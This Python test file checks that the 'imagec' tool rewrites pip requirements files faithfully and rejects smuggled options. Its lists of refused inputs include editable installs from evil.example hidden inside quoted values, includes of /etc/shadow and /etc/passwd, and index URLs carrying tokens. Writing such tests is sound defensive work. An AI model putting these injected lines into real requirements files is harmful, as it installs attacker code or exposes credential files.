"""Class 1: pip options smuggled through requirements files.

imagec reads a requirements file and writes its own; the oracle is pip's parser. Every file
imagec accepts must mean to pip exactly what the user's file meant (same requirements, hashes,
editable and constraint flags, same global options), and whatever imagec refuses when written
directly (an editable, an include outside the source root, credentials in an index URL) it
refuses when smuggled inside a quoted value, a continuation or an option's value."""

from __future__ import annotations

import tempfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from support.adversarial import PROPERTY, REQUIREMENTS_FILES
from support.hostile import imagec, refused
from support.pip_oracle import meaning
from support.timeout import time_limit_fixture

from imagec.errors import SpecError
from imagec.resolve.requirements import (
    read_requirements_file,
    render_constraints_file,
    render_requirements_file,
)

_limit = time_limit_fixture(60)

H = "sha256:" + "ab" * 32

ACCEPTED = [
    "requests==2.31.0\n",
    '--trusted-host "pypi.org"\nrequests\n',
    "-i 'https://mirror.example/simple'\n--extra-index-url=https://x.example/simple\nfoo\n",
    "--index-url https://user:${PIP_TOKEN}@private.example/simple\nfoo\n",
    "--trusted-host=mirror.example:8443\nfoo\n",
    "--no-binary :all:\n--only-binary=numpy,scipy\n--prefer-binary\n--pre\nfoo\n",
    f"foo==1.0 \\\n    --hash={H}\n--require-hashes\n",
    'foo[bar]==1 ; sys_platform == "linux"  # a comment\n',
    "foo>=1,<2\n# comment line\n  \nbar!=3\n",
    "--find-links https://download.example/wheels/\nfoo\n",
    "--no-index\n-f https://wheels.example/\nfoo\n",
    "foo \\\n# a comment ends the continuation\nbar\n",
    "pkg @ https://files.example/pkg-1.0.tar.gz#sha256=" + "cd" * 32 + "\n",
    "-r https://example.com/base.txt\nfoo\n",
    "foo\\\\\n==1.0\n",  # pip strips every backslash at the ends of a continued line
]


def _rendered(tmp_path: Path, user: Path) -> Path:
    lines = read_requirements_file(user, root=tmp_path)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    (out / "requirements.txt").write_text(render_requirements_file(lines))
    constraints = render_constraints_file(lines)
    if constraints is not None:
        (out / "constraints.txt").write_text(constraints)
    return out / "requirements.txt"


@pytest.mark.parametrize("text", ACCEPTED)
def test_rewrite_means_the_same_to_pip(tmp_path: Path, text: str) -> None:
    user = tmp_path / "requirements.txt"
    user.write_text(text)
    assert meaning(_rendered(tmp_path, user)) == meaning(user)


def test_includes_and_constraints_mean_the_same(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "base.txt").write_text("--pre\nbar==2\n-c pins.txt\n")
    (tmp_path / "sub" / "pins.txt").write_text("baz<3\n")
    user = tmp_path / "requirements.txt"
    user.write_text("-r sub/base.txt\nfoo\nbaz\n")
    assert meaning(_rendered(tmp_path, user)) == meaning(user)


SMUGGLED = [
    # (line, what pip reads in the naive rewrite)
    '--trusted-host "pypi.org -e git+https://evil.example/x.git#egg=x"',
    "--trusted-host 'pypi.org -r /etc/shadow'",
    '--extra-index-url "https://pypi.org/simple --index-url https://evil.example/simple"',
    '--find-links "https://x.example/ --extra-index-url https://u:tok@evil.example/"',
    '--no-binary ":all: -e git+https://evil.example/x.git#egg=x"',
    "--trusted-host=pypi.org\\ -e\\ git+https://evil.example/x.git#egg=x",
    "--only-binary 'numpy --pre'",
    '-i "https://mirror.example/simple --trusted-host evil.example"',
    "--trusted-host pypi.org \\\n-e git+https://evil.example/x.git#egg=x",
    "--trusted-host pypi.org\\\n-e git+https://evil.example/x.git#egg=x",
    f'foo==1 --hash "{H} -e x"',
    '--pre "-e" git+https://evil.example/x.git',
]


@pytest.mark.parametrize("line", SMUGGLED)
def test_smuggled_options_are_refused(tmp_path: Path, line: str) -> None:
    user = tmp_path / "requirements.txt"
    user.write_text(line + "\nfoo\n")
    with pytest.raises(SpecError) as caught:
        read_requirements_file(user, root=tmp_path)
    error = str(caught.value)
    assert error.startswith(f"{user}:1: "), error
    assert "\n" not in error and "tok@" not in error


DIRECT = [
    ("-e git+https://evil.example/x.git#egg=x", r"'-e': editable installs .*"),
    ("-r /etc/shadow", r"'-r /etc/shadow' is outside .*"),
    ("--requirement=../outside.txt", r"'-r \.\./outside\.txt' is outside .*"),
    ("-c /etc/passwd", r"'-c /etc/passwd' is outside .*"),
    (
        "--index-url https://u:tok@evil.example/simple",
        r"'https://\*\*\*@evil\.example/simple' contains a password or token.*",
    ),
    (
        "--extra-index-url https://evil.example/simple?access_token=abc123",
        r"'https://evil\.example/simple\?access_token=\*\*\*' contains a password or token.*",
    ),
    ("-r file:///etc/shadow", r"'-r file:///etc/shadow': name an included file by its path.*"),
    ("--edit git+https://evil.example/x.git", r"unsupported pip option '--edit'.*"),
]


@pytest.mark.parametrize("line, message", DIRECT)
def test_direct_forms_are_refused_from_the_cli(tmp_path: Path, line: str, message: str) -> None:
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "outside.txt").write_text("foo\n")
    (project / "requirements.txt").write_text(f"foo\n{line}\n")
    (project / "imagec.yaml").write_text("requirements: requirements.txt\n")
    refused(imagec("validate", "imagec.yaml", cwd=project), rf"requirements\.txt:2: {message}")


def test_marker_pip_would_cut_is_refused(tmp_path: Path) -> None:
    (tmp_path / "imagec.yaml").write_text(
        "requirements:\n  - 'foo; python_version == \" --pre\"'\n"
    )
    refused(
        imagec("validate", "imagec.yaml", cwd=tmp_path),
        r"imagec\.yaml:2:5: requirements\[0\]: invalid requirement 'foo; python_version == "
        r"\" --pre\"': pip would read '--pre\"' in it as an option",
    )


@settings(PROPERTY, max_examples=400)
@given(text=REQUIREMENTS_FILES)
def test_any_file_imagec_accepts_means_the_same_to_pip(text: str) -> None:
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        user = root / "requirements.txt"
        user.write_text(text)
        try:
            rendered = _rendered(root, user)
        except SpecError as exc:
            assert "\n" not in str(exc) and "tok@" not in str(exc)
            return
        assert meaning(rendered) == meaning(user), text
